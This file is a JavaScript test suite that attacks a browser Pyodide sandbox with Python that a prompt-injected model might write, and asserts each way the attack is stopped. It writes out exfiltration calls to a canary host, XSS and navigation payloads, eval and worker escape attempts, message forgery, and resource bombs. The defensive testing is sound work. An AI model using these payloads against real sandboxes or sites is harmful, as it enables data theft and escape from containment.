// @ts-check
// The sandbox boundary under attack: each case is Python a prompt-injected
// model might write, run in the real app, and each asserts the specific way
// it was stopped. A canary server on another loopback port must never hear
// from the sandbox, and the page must keep answering after every case.
import assert from "node:assert/strict";
import { after, afterEach, before, describe, test } from "node:test";

import { startCanary } from "./canary.mjs";
import { reachableNamesCode, startApp } from "./harness.mjs";

let canary;
let app;
let sandpit;

/** The canary's URL for one case, so a hit names the case that leaked. */
const leak = (name) => `${canary.origin}/${name}`;

/** Errors the browser logs while it refuses something; expected in this suite only. */
const REFUSALS = [
  /Refused to connect/,
  /Refused to evaluate/,
  /Refused to load/,
  /Refused to create a worker/,
  /Failed to load resource/,
  /Blocked a frame with origin "null"/,
  /Blocked script execution in 'about:srcdoc'/,
  /Blocked form submission/,
  /Unsafe attempt to initiate navigation/,
  /violates the following Content Security Policy directive/,
  /does not have permission to navigate/,
  /Blocked opening .* in a new window/,
  /WebSocket connection to .* failed/,
  /EventSource/,
];

before(async () => {
  canary = await startCanary();
  app = await startApp();
  sandpit = await (await app.newPage()).open();
  await sandpit.waitReady();
  // Long enough for every refused attempt to finish on a busy machine;
  // the endless ones end here.
  await sandpit.setTimeoutSeconds(5);
});

afterEach(async () => {
  // The page still answers, and nothing it logged is outside the expected refusals.
  assert.equal(await sandpit.page.evaluate(() => 1 + 1), 2);
  await sandpit.assertHealthy({ allow: REFUSALS });
});

after(async () => {
  await app?.close();
  const heard = canary?.requests ?? [];
  await canary?.close();
  assert.deepEqual(heard, [], "the canary heard from the sandbox");
});

/** Waits (boundedly) for console messages that arrive after the action that caused them. */
async function eventually(condition, what) {
  for (let i = 0; i < 50 && !condition(); i++) {
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  assert.ok(condition(), `never saw ${what}`);
}

/** Runs `code` and returns the structured result. */
async function attempt(code) {
  return (await sandpit.run(code)).json;
}

/** The error type of a failed attempt, and that it failed. */
function failedWith(result, type) {
  assert.equal(result.status, "error", JSON.stringify(result.error));
  assert.equal(result.error.type, type, result.error.message);
}

/** The CSP refused a request to the canary (any scheme), and the result says so. */
function refusedByCsp(result, directive = "connect-src") {
  const canaryHost = new URL(canary.origin).host;
  const toCanary = (url) => URL.canParse(url) && new URL(url).host === canaryHost;
  assert.ok(
    result.blocked.some((b) => b.directive === directive && toCanary(b.url)),
    `expected a ${directive} refusal in ${JSON.stringify(result.blocked)}`,
  );
}

describe("network", () => {
  test("js.fetch is refused by the worker's CSP, with a network hint", async () => {
    const result = await attempt(`import js\nawait js.fetch("${leak("fetch")}?secret=1")`);
    failedWith(result, "JsException");
    assert.match(result.error.message, /Failed to fetch/);
    refusedByCsp(result);
    assert.equal(result.error.hint.code, "network_blocked");
  });

  test("fetch in no-cors mode is refused too", async () => {
    const result = await attempt(
      `import js\nfrom pyodide.ffi import to_js\nawait js.fetch("${leak("nocors")}", to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries))`,
    );
    failedWith(result, "JsException");
    refusedByCsp(result);
  });

  test("asynchronous XMLHttpRequest is refused", async () => {
    const result = await attempt(
      `import js, asyncio\nx = js.XMLHttpRequest.new()\nx.open("POST", "${leak("xhr")}")\nx.send("secret")\nawait asyncio.sleep(0.2)\nx.status`,
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value.repr, "0", "no response ever arrived");
    refusedByCsp(result);
  });

  test("synchronous XMLHttpRequest is refused", async () => {
    const result = await attempt(
      `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${leak("sync-xhr")}", False)\nx.send()`,
    );
    failedWith(result, "JsException");
    assert.match(result.error.message, /NetworkError|Failed to execute 'send'/);
    refusedByCsp(result);
  });

  test("WebSocket is refused", async () => {
    const url = leak("ws").replace("http:", "ws:");
    const result = await attempt(`import js, asyncio\nws = js.WebSocket.new("${url}")\nawait asyncio.sleep(0.2)\nws.readyState`);
    if (result.status === "ok") {
      assert.equal(result.value.repr, "3", "the socket is closed, never open");
    } else {
      failedWith(result, "JsException");
    }
    refusedByCsp(result);
  });

  test("EventSource is refused", async () => {
    const result = await attempt(
      `import js, asyncio\nes = js.EventSource.new("${leak("sse")}")\nawait asyncio.sleep(0.2)\nes.readyState`,
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value.repr, "2", "the stream is closed");
    refusedByCsp(result);
  });

  test("pyodide.http.pyfetch is refused", async () => {
    const result = await attempt(`from pyodide.http import pyfetch\nawait pyfetch("${leak("pyfetch")}")`);
    assert.equal(result.status, "error");
    assert.match(result.error.message, /Failed to fetch/);
    refusedByCsp(result);
  });

  test("pyodide.http.open_url (synchronous) is refused", async () => {
    const result = await attempt(`from pyodide.http import open_url\nopen_url("${leak("open_url")}")`);
    assert.equal(result.status, "error");
    refusedByCsp(result);
  });

  test("pyodide.http.pyxhr is refused", async () => {
    const result = await attempt(`from pyodide.http import pyxhr\npyxhr.get("${leak("pyxhr")}")`);
    assert.equal(result.status, "error");
    refusedByCsp(result);
  });

  test("loadPackage pointed at a foreign wheel is refused", async () => {
    const result = await attempt(
      `import pyodide_js\nawait pyodide_js.loadPackage("${leak("evil")}/evil-1.0-py3-none-any.whl")`,
    );
    refusedByCsp(result);
  });

  test("dynamic import() needs eval, which the CSP refuses", async () => {
    const result = await attempt(`from pyodide.code import run_js\nrun_js("import('${leak("import")}/x.mjs')")`);
    failedWith(result, "JsException");
    assert.match(result.error.message, /EvalError|unsafe-eval/);
  });

  test("a nested worker cannot be started: the constructor is gone", async () => {
    const result = await attempt(`import js\njs.Worker.new("${leak("worker")}")`);
    failedWith(result, "AttributeError");
    assert.match(result.error.message, /Worker/);
  });

  test("a blob worker cannot be started either", async () => {
    const result = await attempt(
      `import js\nfrom pyodide.ffi import to_js\nblob = js.Blob.new(to_js(["fetch('${leak("blob-worker")}')"]))\nurl = js.URL.createObjectURL(blob)\njs.Worker.new(url)`,
    );
    failedWith(result, "AttributeError");
  });
});

describe("storage", () => {
  test("the app's IndexedDB is not there", async () => {
    failedWith(await attempt("import js\njs.indexedDB.open('sandpit')"), "AttributeError");
  });

  test("Cache Storage is not there, so cached app files cannot be poisoned", async () => {
    failedWith(await attempt("import js\nawait js.caches.open('app')"), "AttributeError");
  });

  test("OPFS is not there: navigator.storage is gone", async () => {
    failedWith(await attempt("import js\nawait js.navigator.storage.getDirectory()"), "AttributeError");
  });

  test("walking every prototype of the global finds no storage API", async () => {
    const result = await attempt(
      reachableNamesCode(["indexedDB", "caches", "storage", "postMessage", "Worker"]),
    );
    assert.equal(result.status, "ok");
    assert.deepEqual(result.value.json, []);
  });

  test("the Function constructor cannot fetch it back: eval is refused", async () => {
    const result = await attempt("import js\njs.Function.new('return self.indexedDB')()");
    failedWith(result, "JsException");
    assert.match(result.error.message, /EvalError|unsafe-eval/);
  });

  test("Pyodide's IndexedDB file system finds no IndexedDB", async () => {
    const result = await attempt(
      [
        "import pyodide_js, os, asyncio",
        "os.makedirs('/persist', exist_ok=True)",
        "pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, '/persist')",
        "synced = asyncio.get_event_loop().create_future()",
        "pyodide_js.FS.syncfs(True, lambda err: synced.set_result(str(err)))",
        "await synced",
      ].join("\n"),
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value.json, "ReferenceError: indexedDB is not defined");
  });

  test("a BroadcastChannel to the app's other tabs is not there", async () => {
    failedWith(await attempt("import js\njs.BroadcastChannel.new('sandpit')"), "AttributeError");
  });
});

describe("messages", () => {
  test("Python cannot post to the host: the worker's postMessage is gone", async () => {
    const forged = '{"done": {"id": 1, "result": {}}}';
    const result = await attempt(`import js, json\njs.postMessage(js.JSON.parse('${forged}'))`);
    failedWith(result, "AttributeError");
  });

  test("nor through the prototype of the worker's global scope", async () => {
    const result = await attempt(
      "import js\njs.Object.getOwnPropertyDescriptor(js.DedicatedWorkerGlobalScope.prototype, 'postMessage')",
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value, null, "the descriptor is undefined");
  });

  test("the runner's output callback found in its frame is capped and cannot forge messages", async () => {
    const result = await attempt(
      [
        "import sys",
        "frame, emit = sys._getframe(), None",
        "while frame and emit is None:",
        "    emit = frame.f_locals.get('emit')",
        "    frame = frame.f_back",
        "emit('done', 'forged')",
        "emit('stdout', 'x' * 10_000_000)",
        "'found' if emit else 'missing'",
      ].join("\n"),
    );
    assert.equal(result.status, "ok");
    assert.equal(result.value.repr, "'found'", "the attack really reached the callback");
    const shown = await sandpit.page.getByTestId("run-entry").last().locator(".output").textContent().catch(() => "");
    assert.ok(shown.length <= 256 * 1024, `streamed output stayed capped (${shown.length})`);
    assert.equal((await sandpit.run("'still answering'")).value, "'still answering'");
  });

  test("a forged result posted to the page's window is ignored", async () => {
    const before = await sandpit.entryCount();
    await sandpit.page.evaluate(() =>
      window.postMessage({ done: { id: 1, result: { status: "ok" } } }, "*"),
    );
    const result = await sandpit.run("1 + 1");
    assert.equal(result.value, "2");
    assert.equal(await sandpit.entryCount(), before + 1);
  });
});

describe("eval and escape", () => {
  test("js.eval is refused", async () => {
    const result = await attempt("import js\njs.eval('1 + 1')");
    failedWith(result, "JsException");
    assert.match(result.error.message, /EvalError|unsafe-eval/);
  });

  test("setTimeout with a string of code never runs it", async () => {
    const result = await attempt(
      `import js, asyncio\njs.setTimeout("fetch('${leak("settimeout")}')", 0)\nawait asyncio.sleep(0.2)`,
    );
    assert.equal(result.status, "ok");
    assert.ok(result.blocked.some((b) => b.directive === "script-src"), JSON.stringify(result.blocked));
  });

  test("importScripts is gone", async () => {
    failedWith(await attempt(`import js\njs.importScripts("${leak("importscripts")}")`), "AttributeError");
  });
});

describe("rendering", () => {
  test("printed markup is shown as text, never parsed", async () => {
    const scripts = await sandpit.page.locator("script").count();
    const result = await sandpit.run("print('<script>document.title = \"pwned\"</script><img src=x onerror=alert(1)>')");
    assert.equal(result.phase, "ok");
    assert.match(result.output[0].text, /<script>/);
    assert.equal(await sandpit.page.locator("script").count(), scripts);
    assert.equal(await sandpit.page.locator(".output img").count(), 0);
    assert.notEqual(await sandpit.page.title(), "pwned");
  });

  test("HTML output cannot navigate the page or load anything from the network", async () => {
    const pageUrl = sandpit.page.url();
    const result = await sandpit.run(
      [
        "class Evil:",
        "    def _repr_html_(self):",
        `        return '''<img src="${leak("html-img")}"><link rel=stylesheet href="${leak("html-css")}">`,
        `<script>fetch("${leak("html-fetch")}").catch(() => {}); top.location = "${leak("html-nav")}";</script>`,
        `<form action="${leak("html-form")}" target="_top" method="post"><input name=s value=x></form>`,
        "<script>document.forms[0].submit(); window.open('" + leak("html-popup") + "');</script>'''",
        "Evil()",
      ].join("\n"),
    );
    assert.equal(result.phase, "ok");
    assert.deepEqual(result.displays.find((d) => d.mime === "text/html")?.sandbox, "allow-scripts");
    const frame = sandpit.page.frames().find((f) => f.parentFrame() === sandpit.page.mainFrame());
    await frame.waitForLoadState();
    // Each attempt was refused by the browser, and said so.
    const refused = [/html-img.*img-src/, /html-css.*style-src/, /html-fetch.*default-src/, /html-nav/, /html-popup/];
    for (const pattern of refused) {
      await eventually(() => sandpit.errors.some((e) => pattern.test(e)), `a refusal matching ${pattern}`);
    }
    assert.equal(sandpit.page.url(), pageUrl, "the top page did not navigate");
    assert.equal(sandpit.page.context().pages().length, 1, "no popup opened");
  });

  test("markdown output is shown as text", async () => {
    const result = await sandpit.run(
      `class Md:\n    def _repr_markdown_(self): return '![x](${leak("md-img")}) <b>bold</b>'\nMd()`,
    );
    assert.deepEqual(result.displays.map((d) => [d.mime, d.tag]), [["text/markdown", "pre"]]);
  });
});

describe("exhaustion", () => {
  test("an infinite loop is stopped at the timeout", async () => {
    assert.equal((await attempt("while True:\n    pass")).status, "timeout");
  });

  test("a flood of output in one write is cut at the limit", async () => {
    const result = await attempt("print('x' * 50_000_000)");
    assert.equal(result.truncated.output, true);
    assert.equal(result.truncated.output_bytes_total, 50_000_001);
    assert.equal(result.stdout.length, 256 * 1024);
  });

  test("a huge return value is cut at the value limit", async () => {
    const result = await attempt("'x' * 50_000_000");
    assert.equal(result.value.truncated, true);
    assert.ok(result.value.repr.length <= 64 * 1024);
    assert.equal(result.value.json, null);
  });

  test("a huge rich output is dropped with a flag", async () => {
    const result = await attempt("class Big:\n    def _repr_html_(self): return 'x' * 20_000_000\nBig()");
    assert.equal(result.truncated.displays, true);
    assert.deepEqual(result.displays, []);
  });

  test("a memory bomb is an error, and the sandbox goes on", async () => {
    const result = await attempt("hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))");
    assert.ok(["error", "crashed", "timeout"].includes(result.status), result.status);
    if (result.status === "error") assert.equal(result.error.type, "MemoryError");
    assert.equal((await attempt("del hoard\n'ok'")).status !== "crashed", true);
  });

  test("a worker bomb stops at the first worker", async () => {
    const result = await attempt(`import js\nfor i in range(1000):\n    js.Worker.new("${leak("bomb")}")`);
    failedWith(result, "AttributeError");
  });

  test("an asyncio task flood is stopped at the timeout", async () => {
    const result = await attempt(
      "import asyncio\nasync def spin():\n    while True:\n        await asyncio.sleep(0)\nawait asyncio.gather(*(spin() for _ in range(100)))",
    );
    assert.equal(result.status, "timeout");
  });

  test("an endless chain of JavaScript promise callbacks does not hang the sandbox", async () => {
    await sandpit.run("survivor = 'kept'");
    const result = await attempt(
      [
        "import js",
        "from pyodide.ffi import create_proxy",
        "def again(_=None):",
        "    js.Promise.resolve(0).then(proxy)",
        "proxy = create_proxy(again)",
        "again()",
      ].join("\n"),
    );
    assert.equal(result.status, "ok");
    // Pyodide runs each callback as a task, so the chain shares the worker
    // with later runs instead of starving them (SECURITY.md: CPU use).
    assert.equal((await sandpit.run("survivor")).value, "'kept'");
    assert.equal(await sandpit.page.evaluate(() => 1 + 1), 2);
  });
});

describe("allowlisted origins", () => {
  let data;
  let allowed;
  let page;

  before(async () => {
    data = await startCanary({ cors: true });
    allowed = await startApp({ allowOrigins: [data.origin] });
    page = await (await allowed.newPage()).open();
    await page.waitReady();
  });
  after(async () => {
    await allowed?.close();
    await data?.close();
  });

  test("code may fetch from an origin the deployment allows, and only from it", async () => {
    const ok = await page.run(
      `import js\nresponse = await js.fetch("${data.origin}/dataset.csv")\nawait response.text()`,
    );
    assert.equal(ok.json.status, "ok");
    assert.equal(ok.value, "'canary data'");
    assert.deepEqual(data.requests, ["GET /dataset.csv"]);
    const other = await page.run(`import js\nawait js.fetch("${leak("not-allowed")}")`);
    assert.equal(other.json.status, "error");
    assert.equal(other.json.error.hint.code, "network_blocked");
    await page.assertHealthy({ allow: REFUSALS });
  });
});
